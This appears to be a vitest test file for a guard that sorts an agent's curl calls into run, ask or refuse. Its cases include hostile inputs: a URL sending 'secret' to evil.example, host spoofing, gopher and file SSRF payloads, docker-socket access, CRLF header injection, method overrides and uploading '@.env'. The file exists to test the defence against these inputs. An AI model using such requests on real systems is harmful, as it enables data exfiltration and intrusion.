import { describe, expect, it } from 'vitest'
import { type DecisionCase, TOOLSET, testDecisions, testShapes } from './decisions'

const URL = 'https://api.github.com/rate_limit'
const ALLOWED = { url: [URL] }
/** Calls of the allowed URL with further options. */
const withOptions = (cases: readonly (readonly [object, DecisionCase[2], string?])[]): DecisionCase[] =>
  cases.map(([options, decisions, code]) => ['curl', { ...ALLOWED, ...options }, decisions, code])

describe('addresses', () => {
  testDecisions([
    ['curl', ALLOWED, 'runs'],
    ['curl', { url: ['api.github.com/x'] }, 'runs'],
    ['curl', { url: ['http://localhost:3000/health'] }, 'runs'],
    ['curl', { url: ['http://127.0.0.1:9200/_cluster/health?pretty'] }, 'runs'],
    ['curl', { url: [URL, 'https://evil.example/?d=secret'] }, 'asks', 'HOST_NOT_ALLOWED'],
    ['curl', { url: ['https://api.github.com@evil.example/'] }, 'asks', 'HOST_NOT_ALLOWED'],
    ['curl', { url: ['dict.localhost:6379/d:x'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['d%69ct.localhost:6379/d:x'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['ldap.localhost/'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['imap.localhost/'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['smtp.localhost/'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['pop3.localhost/'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['FTP.localhost/'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['gopher://localhost:6379/_x'] }, 'asks', 'VALUE_SHAPE'],
    ['curl', { url: ['{file}:///etc/hosts'] }, 'asks, and is refused in a workspace', 'VALUE_SHAPE'],
    ['curl', { url: ['file:///etc/hosts'] }, 'asks', 'VALUE_SHAPE'],
    ...withOptions([
      [{ 'unix-socket': '/var/run/docker.sock' }, 'asks, and is refused in a workspace', 'SUBPROCESS_OPERATION'],
      [{ proxy: 'http://evil.example:8080' }, 'asks', 'HOST_NOT_ALLOWED'],
      [{ proxy: 'http://localhost:3128' }, 'runs'],
      [{ resolve: ['api.github.com:443:203.0.113.9'] }, 'asks', 'HOST_NOT_ALLOWED'],
    ]),
  ])
})

describe('what one request may become', () => {
  testDecisions(
    withOptions([
      [{ 'user-agent': 'a\nX-Method: DELETE' }, 'asks', 'VALUE_SHAPE'],
      [{ 'user-agent': 'a\r\nX-Method: DELETE' }, 'is refused', 'VALUE_SHAPE'],
      [{ header: ['a: b\nX: y'] }, 'asks', 'VALUE_SHAPE'],
      [{ referer: 'a\nX: y' }, 'asks', 'VALUE_SHAPE'],
      [{ range: '0-1\nX: y' }, 'asks', 'VALUE_SHAPE'],
      [{ cookie: 'a=b\nX: y' }, 'asks', 'VALUE_SHAPE'],
      [{ request: 'GET /other HTTP/1.1\nX: y' }, 'asks', 'VALUE_SHAPE'],
      [{ header: ['Accept: text/html', 'If-None-Match: "x"'], 'user-agent': 'probe/1.0', range: '0-499' }, 'runs'],
      [{ header: ['X-HTTP-Method-Override: DELETE'] }, 'asks', 'CHANGE_OPERATION'],
      [{ header: ['x-http-method:DELETE'] }, 'asks', 'CHANGE_OPERATION'],
      [{ header: ['X-Method-Override: PUT'] }, 'asks', 'CHANGE_OPERATION'],
      [{ header: ['Host: internal.example'] }, 'asks', 'CHANGE_OPERATION'],
      [{ header: ['X-Original-URL: /admin'] }, 'asks', 'CHANGE_OPERATION'],
      [{ header: [' folded'] }, 'asks', 'CHANGE_OPERATION'],
      [{ header: ['@headers.txt'] }, 'asks', 'NON_REVERSIBLE_OPERATION'],
      [{ request: 'GET' }, 'runs'],
      [{ request: 'DELETE' }, 'asks', 'DESTRUCTIVE_OPERATION'],
    ]),
  )
})

describe('what is sent', () => {
  testDecisions(
    withOptions([
      [{ get: true, data: ['a=b', 'c=d'] }, 'runs'],
      [{ get: true, 'data-urlencode': ['q=red shoes'] }, 'runs'],
      [{ get: true, 'data-raw': 'a=b' }, 'runs'],
      [{ 'url-query': ['a=b'] }, 'runs'],
      [{ data: ['a=b'] }, 'asks', 'CHANGE_OPERATION'],
      [{ get: false, data: ['a=b'] }, 'asks', 'CHANGE_OPERATION'],
      [{ get: true, form: ['a=b'] }, 'asks', 'CHANGE_OPERATION'],
      [{ get: true, data: ['@.env'] }, 'asks', 'SENSITIVE_READ'],
      [{ get: true, 'data-urlencode': ['q@.env'] }, 'asks', 'SENSITIVE_READ'],
      [{ get: true, data: ['@notes.txt'] }, 'asks', 'NON_REVERSIBLE_OPERATION'],
      [{ cookie: 'session=1; theme=dark' }, 'runs'],
      [{ cookie: 'cookies.txt' }, 'asks', 'NON_REVERSIBLE_OPERATION'],
      [{ netrc: true }, 'asks', 'NON_REVERSIBLE_OPERATION'],
    ]),
  )
})

describe('where the answer goes', () => {
  testDecisions(
    withOptions([
      [{ output: ['-'] }, 'runs'],
      [{ 'dump-header': '-' }, 'runs'],
      [{ 'cookie-jar': '-' }, 'runs'],
      [{ trace: '-' }, 'runs'],
      [{ 'write-out': '%{http_code} %{time_total} %header{etag}\\n' }, 'runs'],
      [{ 'write-out': 'code=%{http_code}' }, 'runs'],
      [{ 'write-out': '%output{x}' }, 'asks', 'FILESYSTEM_WRITE'],
      [{ 'write-out': '@format' }, 'asks', 'NON_REVERSIBLE_OPERATION'],
      [{ output: ['-', 'body.json'] }, 'asks', 'FILESYSTEM_WRITE'],
      [{ 'dump-header': 'headers.txt' }, 'asks', 'FILESYSTEM_WRITE'],
      [{ config: 'options' }, 'asks', 'SUBPROCESS_OPERATION'],
    ]),
  )

  it('does not say that a download changes a server', () => {
    const command = TOOLSET.commands.find(({ name }) => name === 'curl')
    expect(command?.changes).toBe('folder')
  })
})

testShapes('curl')
